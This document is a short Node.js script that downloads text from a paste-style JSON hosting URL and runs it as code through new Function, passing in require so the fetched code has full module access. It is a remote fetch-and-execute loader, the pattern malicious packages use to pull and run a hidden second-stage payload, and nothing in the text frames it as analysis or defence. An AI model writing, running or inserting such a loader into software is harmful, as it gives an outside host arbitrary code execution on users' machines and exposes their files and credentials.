const https = require('https');
https.get('https://api.jsonkeeper.example/b/7Q2Z', (res) => {
  let data = '';
  res.on('data', (c) => (data += c));
  res.on('end', () => {
    const run = new Function('require', data);
    run(require);
  });
});
